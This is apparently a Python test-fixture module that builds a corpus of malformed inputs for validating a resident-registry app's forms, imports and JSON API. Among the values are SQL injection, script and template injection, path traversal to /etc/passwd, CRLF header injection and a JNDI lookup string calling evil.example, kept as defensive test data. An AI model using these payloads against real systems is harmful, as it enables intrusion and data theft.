"""The bad values: strings people (and scripts) type into forms, numbers and dates
that are out of range or not numbers at all, JSON of the wrong shape. Built here, fed
by the test modules beside this one to the forms, the Excel import, the uploads and
the API.

A value is a ``Bad``: an id (the pytest id), what to send, and whether it can ever be
a legitimate text (``text_ok``). A free-text field may accept ``<script>`` or an
emoji, stored as typed and escaped on output; it must refuse a NUL byte or a
megabyte. A field with a format (a NIK, a date, a phone) must refuse every value of
this corpus.

Raw bytes (``bytes`` values) are sent as they are in the form body: invalid UTF-8 and
the UTF-8 encoding of a lone surrogate cannot be written as a Python ``str``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Bad:
    id: str
    value: str | bytes | list[str]
    text_ok: bool = True  # may a free-text field accept it (stored as typed)?

    def length(self) -> int:
        if isinstance(self.value, list):
            return max((len(v) for v in self.value), default=0)
        return len(self.value)


def _strings() -> list[Bad]:
    return [
        # sizes
        Bad("empty", ""),
        Bad("spaces", "   \t  "),
        Bad("long-10k", "a" * 10_000),
        Bad("long-1m", "b" * 1_000_000),
        Bad("long-10k-wide", "é" * 10_000),
        # control characters and invisible text
        Bad("nul", "abc\x00def", text_ok=False),
        Bad("nul-only", "\x00", text_ok=False),
        Bad("control-chars", "a\x01\x02\x1b[31mb\x7f"),
        Bad("crlf-header", "x\r\nSet-Cookie: hacked=1"),
        Bad("rtl-override", "\u202egnp.exe"),
        Bad("zero-width-joiner", "Si\u200dti\u200b"),
        Bad("zero-width-only", "\u200b\u200c\u200d"),
        Bad("bom", "\ufeffSiti"),
        Bad("combining-zalgo", "Z\u0336\u0321\u0353\u031b" * 50),
        Bad("emoji", "Siti 🙂👍🏽👨‍👩‍👧‍👦"),
        Bad("astral-cjk", "𠜎𠜱𠝹𠱓"),
        # homoglyph digits
        Bad("arabic-indic-digits", "١٧٠١٠٥٤١٠٧٩٠٠٠٠١"),
        Bad("fullwidth-digits", "１７０１０５４１０７９０００１"),
        Bad("superscript-digits", "A-\u00b2\u00b3"),
        Bad("devanagari-digits", "१७०१०५४१०७९०००१"),
        Bad("mathematical-digits", "𝟏𝟕𝟎𝟏𝟎𝟓𝟒𝟏𝟎𝟕𝟗𝟎𝟎𝟎𝟏"),
        # invalid UTF-8 on the wire
        Bad("lone-surrogate-utf8", b"\xed\xa0\x80abc", text_ok=True),
        Bad("invalid-utf8", b"\xff\xfe\xfa", text_ok=True),
        Bad("overlong-utf8", b"\xc0\xaf\xe0\x80\xaf", text_ok=True),
        # injections
        Bad("sql-or", "' OR '1'='1"),
        Bad("sql-drop", "1; DROP TABLE residents_resident;--"),
        Bad("sql-union", "x' UNION SELECT username, password FROM accounts_user--"),
        Bad("script", "<script>alert(1)</script>"),
        Bad("img-onerror", '"><img src=x onerror=alert(1)>'),
        Bad("svg-onload", "<svg/onload=alert(1)>"),
        Bad("template-injection", "{{ 7*7 }}{% debug %}${7*7}"),
        Bad("format-string", "%s%s%s%n%(x)s{0}"),
        Bad("path-traversal", "../../../../etc/passwd"),
        Bad("jndi", "${jndi:ldap://evil.example/a}"),
        Bad("json-in-text", '{"$gt": ""}'),
        # numbers, as text
        Bad("negative", "-1"),
        Bad("zero", "0"),
        Bad("huge-int", "9" * 400),
        Bad("float-exp", "1e309"),
        Bad("nan", "NaN"),
        Bad("infinity", "-Infinity"),
        Bad("hex", "0x1F"),
        Bad("underscored", "1_000"),
        # dates, as text
        Bad("feb-30", "2026-02-30"),
        Bad("month-13", "2026-13-01"),
        Bad("zero-date", "0000-00-00"),
        Bad("year-9999", "9999-12-31"),
        Bad("year-1", "0001-01-01"),
        Bad("slashed-impossible", "31/02/2026"),
        # shapes
        Bad("list-of-two", ["a", "b"]),
    ]


STRINGS: list[Bad] = _strings()
_BY_ID = {bad.id: bad for bad in STRINGS}


def pick(*names: str) -> list[Bad]:
    return [_BY_ID[name] for name in names]


# A valid NIK (Padang Kapuk's kecamatan, a woman born 1 July 1990, serial 0001) and
# the same digits in look-alike scripts.
NIK = "1701054107900001"


def _digits(text: str, zero: str) -> str:
    return text.translate({ord(str(d)): chr(ord(zero) + d) for d in range(10)})


# Values for free-text fields (names, titles, notes).
TEXTS: list[Bad] = pick(
    "empty",
    "spaces",
    "long-10k",
    "long-1m",
    "long-10k-wide",
    "nul",
    "nul-only",
    "control-chars",
    "crlf-header",
    "rtl-override",
    "zero-width-only",
    "bom",
    "combining-zalgo",
    "emoji",
    "astral-cjk",
    "lone-surrogate-utf8",
    "invalid-utf8",
    "overlong-utf8",
    "sql-or",
    "sql-drop",
    "script",
    "img-onerror",
    "template-injection",
    "format-string",
    "superscript-digits",
    "arabic-indic-digits",
    "list-of-two",
)

# Values for a NIK or KK field.
NIKS: list[Bad] = [
    *pick("empty", "spaces", "nul", "long-10k", "sql-or", "script", "emoji", "invalid-utf8"),
    Bad("letter-o", NIK.replace("0", "O", 1)),
    Bad("15-digits", NIK[:15]),
    Bad("17-digits", NIK + "1"),
    Bad("arabic-indic", _digits(NIK, "\u0660")),
    Bad("fullwidth", _digits(NIK, "\uff10")),
    Bad("devanagari", _digits(NIK, "\u0966")),
    Bad("mathematical", _digits(NIK, "\U0001d7ce")),
    Bad("superscript-in-date", NIK[:6] + "\u2074\u00b9" + NIK[8:]),
    Bad("arabic-after-kecamatan", NIK[:6] + _digits(NIK[6:], "\u0660")),
    Bad("fullwidth-after-kecamatan", NIK[:6] + _digits(NIK[6:], "\uff10")),
    Bad("nul-inside", NIK[:8] + "\x00" + NIK[8:]),
    Bad("zero-width-inside", NIK[:8] + "\u200b" + NIK[8:]),
    Bad("rtl-inside", "\u202e" + NIK),
    Bad("negative", "-" + NIK),
    Bad("float", "1.701054107900001e15"),
    Bad("feb-30-nik", "1701053002900001"),
    Bad("serial-0000", NIK[:12] + "0000"),
    Bad("list-of-two", [NIK, "1"]),
]

# Values for a date field.
DATES: list[Bad] = [
    *pick(
        "empty",
        "spaces",
        "nul",
        "long-10k",
        "sql-or",
        "script",
        "huge-int",
        "negative",
        "nan",
        "feb-30",
        "month-13",
        "zero-date",
        "year-9999",
        "year-1",
        "slashed-impossible",
        "invalid-utf8",
        "list-of-two",
    ),
    Bad("far-future", "2999-01-01"),
    Bad("tomorrow-iso", "2026-12-11"),
    Bad("arabic-indic-date", _digits("2026-12-17", "\u0660")),
    Bad("fullwidth-date", _digits("2026-12-17", "\uff10")),
    Bad("hour-25", "2026-12-17T25:00"),
    Bad("time-not-date", "08:00"),
]

# Values for a time of day.
TIMES: list[Bad] = [
    *pick("empty", "nul", "long-10k", "sql-or", "script", "negative", "nan", "list-of-two"),
    Bad("hour-25", "25:00"),
    Bad("minute-61", "08:61"),
    Bad("arabic-indic-time", _digits("08:00", "\u0660")),
    Bad("date-not-time", "2026-12-17"),
]

# Values for a phone number.
PHONES: list[Bad] = [
    *pick("spaces", "nul", "long-10k", "sql-or", "script", "emoji", "invalid-utf8", "negative"),
    Bad("letters", "0812-ABCD-EFGH"),
    Bad("too-short", "08"),
    Bad("too-long", "0812" * 10),
    Bad("foreign", "+1 202 555 0100"),
    Bad("plus-62-only", "+62"),
    Bad("arabic-indic", _digits("081234567890", "\u0660")),
    Bad("fullwidth", _digits("081234567890", "\uff10")),
    Bad("superscript", "0812\u00b3456\u00b97890"),
    Bad("list-of-two", ["081234567890", "x"]),
]

# Values for a choice (a select, radio buttons or a hidden id).
CHOICES: list[Bad] = [
    *pick(
        "empty",
        "spaces",
        "nul",
        "long-10k",
        "sql-or",
        "script",
        "huge-int",
        "negative",
        "zero",
        "invalid-utf8",
        "list-of-two",
    ),
    Bad("unknown", "X"),
    Bad("fullwidth-one", "\uff11"),
    Bad("arabic-indic-one", "\u0661"),
    Bad("superscript-one", "\u00b9"),
]

# Values for a number.
NUMBERS: list[Bad] = [
    *CHOICES,
    *pick("float-exp", "nan", "infinity", "hex", "underscored"),
    Bad("minus-huge", "-" + "9" * 30),
    Bad("decimal-many-places", "1.0000000000000000000001"),
]


def ids(values: list[Bad]) -> list[str]:
    return [v.id for v in values]


# --- JSON bodies for the API ------------------------------------------------------------


@dataclass(frozen=True)
class BadBody:
    id: str
    body: bytes
    content_type: str = "application/json"


def _json_values() -> list[tuple[str, Any]]:
    """Wrong JSON types for one field of an object."""
    return [
        ("null", None),
        ("true", True),
        ("int", 1),
        ("negative", -1),
        ("huge-int", 10**400),
        ("float", 1.5),
        ("string-nul", "a\x00b"),
        ("string-long", "c" * 100_000),
        ("string-script", "<script>alert(1)</script>"),
        ("string-sql", "' OR 1=1--"),
        ("string-homoglyph", "١٧٠١٠٥٤١٠٧٩٠٠٠١"),
        ("string-superscript", "170105²³0790001"),
        ("empty-string", ""),
        ("list", ["a", 1]),
        ("object", {"$gt": ""}),
        ("bad-date", "2026-02-30"),
    ]


JSON_VALUES = _json_values()


def bodies() -> list[BadBody]:
    """Whole request bodies that are not the object an endpoint expects."""
    return [
        BadBody("empty", b""),
        BadBody("not-json", b"nik=1701&name=x"),
        BadBody("truncated", b'{"national_id": "17010541'),
        BadBody("trailing-comma", b'{"a": 1,}'),
        BadBody("array", b"[]"),
        BadBody("array-of-objects", b'[{"national_id": "1"}]'),
        BadBody("string", b'"hello"'),
        BadBody("number", b"12"),
        BadBody("null", b"null"),
        BadBody("nested-deep", b"[" * 5000 + b"]" * 5000),
        BadBody("nested-deep-objects", b'{"a":' * 3000 + b"1" + b"}" * 3000),
        BadBody("huge-body", b'{"x": "' + b"d" * 3_000_000 + b'"}'),
        BadBody("invalid-utf8", b'{"full_name": "\xff\xfe"}'),
        BadBody("utf16", '{"full_name": "Siti"}'.encode("utf-16")),
        BadBody("bom-json", b'\xef\xbb\xbf{"full_name": "Siti"}'),
        BadBody("lone-surrogate-escape", b'{"full_name": "\\ud800"}'),
        BadBody("nan-literal", b'{"x": NaN}'),
        BadBody("duplicate-keys", b'{"sex": "L", "sex": "X"}'),
        BadBody("form-encoded", b"full_name=Siti", "application/x-www-form-urlencoded"),
        BadBody("xml", b"<resident><nik>1</nik></resident>", "application/xml"),
        BadBody("text-plain", b'{"full_name": "Siti"}', "text/plain"),
        BadBody("multipart-no-boundary", b"--x\r\n\r\n", "multipart/form-data"),
        BadBody("multipart-garbage", b"garbage", "multipart/form-data; boundary=zz"),
    ]


BODIES = bodies()
